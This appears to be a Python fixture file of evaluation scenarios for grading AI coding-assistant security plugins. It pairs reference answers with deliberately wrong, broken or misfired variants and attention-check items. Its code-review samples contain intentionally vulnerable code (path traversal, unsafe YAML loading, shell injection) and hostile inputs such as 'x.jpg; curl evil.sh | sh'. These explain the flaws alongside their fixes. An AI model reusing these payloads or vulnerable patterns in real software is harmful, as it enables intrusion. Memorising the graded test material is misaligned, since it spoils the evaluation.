            "Check our Python dependencies for known vulnerabilities.",
            "/audit requirements.txt",
            "are any of our pinned packages vulnerable?",
        ),
        ({"req": "requirements.txt"}, {"req": "requirements/prod.txt"}),
        (
            cap("@invoke", "/{component} {req}", "Running pip-audit -r {req}"),
            cap(
                "Bash",
                "pip-audit -r {req}",
                """
                Found 3 known vulnerabilities in 2 packages
                Name     Version ID                  Fix Versions
                -------- ------- ------------------- ------------
                jinja2   3.1.2   GHSA-h5c8-rqwp-cp95 3.1.3
                jinja2   3.1.2   GHSA-h75v-3vvj-5mfj 3.1.4
                requests 2.31.0  GHSA-9wx4-h78v-vm56 2.32.0
                """,
            ),
        ),
        """
        pip-audit found 3 known vulnerabilities in 2 packages in `{req}`:

        | package | pinned | advisory | fixed in |
        |---|---|---|---|
        | jinja2 | 3.1.2 | GHSA-h5c8-rqwp-cp95 (xmlattr filter XSS) | 3.1.3 |
        | jinja2 | 3.1.2 | GHSA-h75v-3vvj-5mfj (xmlattr filter XSS, keys with spaces) | 3.1.4 |
        | requests | 2.31.0 | GHSA-9wx4-h78v-vm56 (`verify=False` sticks to a session) | 2.32.0 |

        Bump `jinja2` to `>=3.1.4` (3.1.3 only fixes the first advisory) and `requests` to
        `>=2.32.0`, then rerun the audit and the test suite. Both are minor upgrades within
        the same major version.
        """,
        wrong=var(
            """
            Three advisories in two packages. Upgrade `jinja2` to 3.1.3, which fixes both
            jinja2 advisories, and `requests` to 2.32.0.
            """,
            "jinja2 3.1.3 does not fix GHSA-h75v-3vvj-5mfj; 3.1.4 is needed",
        ),
        incomplete=var(
            """
            `requests` 2.31.0 has a known vulnerability (GHSA-9wx4-h78v-vm56); upgrade it to
            2.32.0.
            """,
            "omits both jinja2 advisories",
        ),
    ),
    _t(
        "security-scan:sast-skill",
        "edge_case",
        (
            "Review `{file}` for security issues before I open the PR.",
            "any security problems in {file}?",
        ),
        (
            {
                "file": "app/routes/files.py",
                "source": (
                    '@bp.get("/download")\n'
                    "def download():\n"
                    '    name = request.args["name"]\n'
                    "    return send_file(os.path.join(UPLOAD_DIR, name))"
                ),
                "finding": "**Path traversal** in `download()`: `name` comes straight from the "
                "query string, so `?name=../../etc/passwd` (or an absolute path, which "
                "`os.path.join` lets replace `UPLOAD_DIR` entirely) reads arbitrary files.",
                "fixed": """```python
from flask import abort, request, send_from_directory


@bp.get("/download")
def download():
    name = request.args.get("name", "")
    if not name:
        abort(400)
    return send_from_directory(UPLOAD_DIR, name, as_attachment=True)
```""",
                "fixed_broken": """```python
@bp.get("/download")
def download():
    name = request.args.get("name", "")
    if not name:
        abort(400)
    return send_from_directory(UPLOAD_DIR, name, as_attachment=True
```""",
                "note": "`send_from_directory` uses `safe_join` and returns 404 for paths that "
                "escape the directory. Also check that the caller may download that file; "
                "the route has no authorization check.",
            },
            {
                "file": "app/api/import_config.py",
                "source": (
                    '@router.post("/import")\n'
                    "async def import_config(request: Request):\n"
                    "    body = await request.body()\n"
                    "    config = yaml.load(body, Loader=yaml.Loader)\n"
                    "    return apply_config(config)"
                ),
                "finding": "**Unsafe deserialization**: `yaml.load` with `yaml.Loader` can "
                "construct arbitrary Python objects from tags like `!!python/object/apply`, "
                "which means remote code execution from a request body.",
                "fixed": """```python
@router.post("/import")
async def import_config(request: Request):
    body = await request.body()
    config = yaml.safe_load(body)
    if not isinstance(config, dict):
        raise HTTPException(422, "config must be a mapping")
    return apply_config(ConfigModel.model_validate(config))
```""",
                "fixed_broken": """```python
@router.post("/import")
async def import_config(request: Request):
    body = await request.body()
    config = yaml.safe_load(body)
    if not isinstance(config, dict)
        raise HTTPException(422, "config must be a mapping")
```""",
                "note": "`safe_load` only builds plain types; validating with a Pydantic "
                "model then rejects unexpected keys. Also limit the request body size.",
            },
            {
                "file": "app/thumbnails.py",
                "source": (
                    "def make_thumbnail(filename: str) -> Path:\n"
                    '    out = THUMB_DIR / f"{Path(filename).stem}.png"\n'
                    '    subprocess.run(f"convert {filename} -resize 256x256 {out}", '
                    "shell=True, check=True)\n"
                    "    return out"
                ),
                "finding": "**Command injection**: `filename` is user-controlled and "
                "interpolated into a shell command, so a name like `x.jpg; curl evil.sh | sh` "
                "runs arbitrary commands.",
                "fixed": """```python
def make_thumbnail(filename: str) -> Path:
    out = THUMB_DIR / f"{Path(filename).stem}.png"
    subprocess.run(
        ["convert", "--", filename, "-resize", "256x256", str(out)],
        check=True,
        timeout=30,
    )
    return out
```""",
                "fixed_broken": """```python
def make_thumbnail(filename: str) -> Path:
    out = THUMB_DIR / f"{Path(filename).stem}.png"
    subprocess.run(
        ["convert", "--", filename, "-resize", "256x256", str(out)],
        check=True,
        timeout=30,
    return out
```""",
                "note": "Passing a list without `shell=True` means no shell parses the name. "
                "ImageMagick itself has a history of parser vulnerabilities, so consider a "
                "policy.xml that restricts coders, or Pillow for thumbnails.",
            },
        ),
        (
            cap("@invoke", "{component}", "Loaded skill {component}"),
            cap("Read", "{file}", "{source}"),
        ),
        """
        One issue that should block the PR:

        {finding}

        Suggested fix:

        {fixed}

        {note}
        """,
        broken=var(
            """
            {finding}

            {fixed_broken}
            """,
            "the suggested fix has a syntax error",
        ),
        incomplete=var(
            """
            {finding}
            """,
            "reports the issue without a fix",
        ),
        misfire=Misfire(
            "security-scan:dep-audit",
            (
                cap("@invoke", "/{component} requirements.txt", "Running pip-audit"),
                cap("Bash", "pip-audit -r requirements.txt", "No known vulnerabilities found"),
            ),
            """
            No known vulnerabilities were found in your dependencies, so the PR looks good
            from a security perspective.
            """,
            False,
            "ran a dependency audit instead of reviewing the file; the code issue is missed",
        ),
    ),
    _t(
        "security-scan:threat-model-agent",
        "edge_case",
        (
            "Threat-model {feature} before we ship it.",
            "what could go wrong security-wise with {feature}?",
        ),
        (
            {
                "feature": "the new file upload feature (users upload PDFs that we render previews for)",
                "threats": (
                    "- **Spoofing**: uploads are authenticated, but preview URLs are public "
                    "links; use signed, expiring URLs.\n"
                    "- **Tampering**: validate type by content (magic bytes), not extension; "
                    "store uploads outside the web root under generated names.\n"
                    "- **Repudiation**: log uploader, file hash and time for every upload.\n"
                    "- **Information disclosure**: PDFs can carry JavaScript and external "
                    "links; render previews in a sandboxed worker without network access.\n"
                    "- **Denial of service**: cap file size and page count; decompression bombs "
                    "and huge pages can exhaust the renderer.\n"
                    "- **Elevation of privilege**: the renderer (e.g. Ghostscript) is the "
                    "riskiest component; run it as an unprivileged user in its own container "
                    "and keep it patched."
                ),
            },
            {
                "feature": "the new password reset flow (emailed reset links)",
                "threats": (
                    "- **Spoofing**: tokens must be single-use, random (>=128 bits), expire "
                    "within ~30 minutes, and be stored hashed.\n"
                    "- **Tampering**: build the link from a configured base URL, never from "
                    "the request's Host header (host header poisoning).\n"
                    "- **Repudiation**: log reset requests and completions with IP and user "
                    "agent; notify the user by email after a successful reset.\n"
                    "- **Information disclosure**: respond identically whether or not the "
                    "email exists, to prevent account enumeration.\n"
                    "- **Denial of service**: rate-limit requests per email and per IP.\n"
                    "- **Elevation of privilege**: invalidate existing sessions after a reset."
                ),
            },
        ),
        (
            cap(
                "@invoke",
                "subagent_type: {component}\nprompt: STRIDE threat model for {feature}",
                "Agent finished after 2 tool uses",
            ),
            cap("Bash", "git diff --stat main...HEAD", " 14 files changed, 612 insertions(+)"),
        ),
        """
        Threat model for {feature}, by STRIDE category:

        {threats}

        The first items in each category are the ones I'd fix before shipping; the rest can go
        into follow-up tickets.
        """,
        incomplete=var(
            """
            Main risks for {feature}: make sure inputs are validated and add rate limiting.
            """,
            "generic advice, no systematic threat list",
        ),
        misfire=Misfire(
            "security-scan:sast-skill",
            (
                cap("@invoke", "{component}", "Loaded skill {component}"),
                cap("Bash", "git diff --stat main...HEAD", " 14 files changed, 612 insertions(+)"),
            ),
            """
            I scanned the diff for {feature} and found no injection or deserialization
            issues in the changed files.
            """,
            True,
            "a static code scan ran instead of the threat-model agent",
        ),
    ),
]

ATTENTION: list[dict[str, object]] = [
    {
        "plugin": "db-toolkit",
        "component": "db-toolkit:query-explain",
        "expected_component": "db-toolkit:query-explain",
        "query": "Explain why `SELECT * FROM orders WHERE customer_id = 12` is slow.",
        "tool_captures": [
            {
                "tool": "SlashCommand",
                "input": "/db-toolkit:query-explain SELECT * FROM orders WHERE customer_id = 12",
                "output": "Running EXPLAIN (ANALYZE, BUFFERS) on the replica",
            }
        ],
        "response": (
            "Waves roll in and waves roll out,\nthe tide forgets what it was about.\n"
            "The gulls don't index, the sand won't sort,\nand every query ends up short."
        ),
        "maturity": "stable",
        "component_type": "command",
        "trigger_complexity": "simple",
        "expected": {"trigger": "yes", "technically_correct": 0, "completeness": 1},
    },
    {
        "plugin": "k8s-helper",
        "component": "docs-writer:changelog-command",
        "expected_component": "k8s-helper:debug-pod-skill",
        "query": "My pod `web-5f7c` in `default` is in CrashLoopBackOff. Why?",
        "tool_captures": [
            {
                "tool": "SlashCommand",
                "input": "/docs-writer:changelog-command v1.0.0..HEAD",
                "output": "Collecting commits since v1.0.0",
            }
        ],
        "response": "## [1.0.1]\n\n### Fixed\n- Typo in the README.",
        "maturity": "stable",
        "component_type": "skill",
        "trigger_complexity": "simple",
        "expected": {"trigger": "no", "completeness": 1},
    },
]

# What the labeler reads about each plugin (protocol 002: "Plugin context: name, description,
# component being tested").
PLUGIN_DESCRIPTIONS: dict[str, str] = {
    "db-toolkit": "PostgreSQL helpers: schema migrations, EXPLAIN-based query analysis, a schema design agent and a read-only query tool (MCP).",
    "k8s-helper": "Kubernetes helpers: pod debugging, manifest generation, a rollout agent and a kubectl tool (MCP) scoped to the current context.",
    "test-runner": "Runs and triages tests: a test command, flaky-test triage, a coverage hook after edits and a skill that writes tests.",
    "docs-writer": "Documentation: docstrings, README updates by an agent, changelog generation from commits and architecture decision records.",
    "security-scan": "Security checks: a pre-commit secrets hook, dependency audit, static analysis and a threat-model agent.",
}

# The evaluation runs the scenarios came from (protocol 002: ``--run-id``); scenarios are
# split between them in order.
RUN_IDS: tuple[str, ...] = ("run-2026-10-28-a41c", "run-2026-11-02-7be9")

# Labeling dimensions of protocol 002 and the judge verdict each one is compared with.
DIMENSIONS: tuple[str, ...] = (
    "trigger-accuracy",
    "code-validity",
    "technical-accuracy",
    "completeness",
)
